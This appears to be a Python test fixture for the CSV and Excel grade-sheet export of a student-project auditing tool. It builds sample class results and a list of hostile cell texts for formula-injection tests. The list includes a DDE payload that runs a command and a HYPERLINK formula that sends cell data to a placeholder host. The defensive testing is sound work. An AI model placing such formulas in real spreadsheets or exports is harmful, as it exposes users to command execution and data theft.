"""A class as spreadsheets hold it, with hostile texts, and sheets as they are read back."""

from __future__ import annotations

import csv
import io
from collections.abc import Sequence

from openpyxl import load_workbook
from openpyxl.workbook import Workbook
from openpyxl.worksheet.worksheet import Worksheet

from auditor.output.spreadsheets.sheets import grades_xlsx
from auditor.records import replace
from auditor.result.audit import Finding, Summary, Verdict
from auditor.result.class_run import BaseRate, Cell, ClaimHead, ClassResult, GroupRow
from auditor.result.findings import finding

HEADS = (
    ClaimHead("M5.git", "M5", "Week 1", "Git is used"),
    ClaimHead("M8.dvc", "M8", "Week 1", "Data under version control"),
    ClaimHead("M17.ci", "M17", "Week 2", "Continuous integration"),
    ClaimHead("M23.deploy", "M23", "Week 3", "Deployed"),
    ClaimHead("M26.frontend", "M26", "Week 3", "A frontend"),
)


HOSTILE = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tx",
    "\rx",
    "   =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    '"=1+1',
    "''=1+1",
    "\u201c=1+1",
    '\u200d "=1+1',
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1,1)",
    '=HYPERLINK("https://example.org/?"&A1,"open")',
    "=cmd|' /C calc'!A0",
    "a;=1+1;b",
    "a\n=1+1;b",
    "a\r\n\t+1+1",
    'a;"=1+1',
)
"""Texts that some program or setting takes for a formula."""


def cell(
    claim: str, ticked: bool | None, verdict: Verdict, decided: Finding | None = None, stale: bool = False
) -> Cell:
    return Cell(claim, ticked, verdict, finding(ticked, verdict), decided, stale)


CELLS = (
    cell("M5.git", True, Verdict.SUPPORTED),
    cell("M8.dvc", True, Verdict.PARTIAL),
    cell("M17.ci", True, Verdict.UNSUPPORTED, Finding.CONFIRMED),
    cell("M23.deploy", True, Verdict.CONTRADICTED, Finding.CONFIRMED, stale=True),
    cell("M26.frontend", None, Verdict.UNSUPPORTED),
)


def group(name: str = "43", **given: object) -> GroupRow:
    row = GroupRow(
        name=name,
        members=("Ann Example", "Bo Example"),
        address="https://example.org/buoys/project",
        web="https://example.org/buoys/project",
        commit="0123456789abcdef0123456789abcdef01234567",
        committed_at="2026-01-23T21:48:00+00:00",
        problem="",
        notes=("2 commits after the deadline",),
        later_commits=2,
        edition="2026",
        report_group="43",
        summary=Summary(4, 1, 1, 1, 1, 0, 2, 1, 0, 0, 0),
        cells=CELLS,
        questions=(("M23.deploy", "Where does it run?"), ("M8.dvc", "Where is\nthe data?")),
        problems=("data.csv: over 10 MB",),
        page="group-43.html",
        keys=(".env:1: a key",),
    )
    return replace(row, **given)


FAILED = group(
    "44", commit=None, committed_at=None, problem="no such repository", notes=(), later_commits=0, edition=None,
    report_group=None, summary=None, cells=(), questions=(), problems=(), page="group-44.html",
)  # fmt: skip


def a_class(*rows: GroupRow) -> ClassResult:
    rates = tuple(BaseRate(head, 4, 1, 1, 2, 0, 1) for head in HEADS)
    return ClassResult("0.1", "Winter 2026", "2026-01-23T23:59:00+01:00", HEADS, rows, rates, ())


def hostile_class(texts: Sequence[str]) -> ClassResult:
    return a_class(*(
        group(
            text, members=(text, text), address=text, web=text, commit=text, committed_at=text, problem=text,
            notes=(text, text), edition=text, report_group=text, questions=(("M8.dvc", text),), problems=(text,), keys=(text,), large_files=(text,),
        )
        for text in texts
    ))  # fmt: skip


def table(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def workbook(result: ClassResult) -> Workbook:
    return load_workbook(io.BytesIO(grades_xlsx(result)), rich_text=False)


def rows_of(sheet: Worksheet, header: int = 1) -> list[dict[str, object]]:
    names = [str(one.value) for one in sheet[header]]
    return [
        {name: one.value for name, one in zip(names, row, strict=True)} for row in sheet.iter_rows(min_row=header + 1)
    ]


def sheet_of(book: Workbook, name: str) -> Worksheet:
    sheet = book[name]
    assert isinstance(sheet, Worksheet)
    return sheet


OPENED = (
    "=41+1", "\uff1d41+1", " =41+1", "+41+1", "-41+1", "@SUM(41,1)", "a;=41+1;b", "\r=41+1", "<r>&</r>", "_x0041_", "007",
)  # fmt: skip
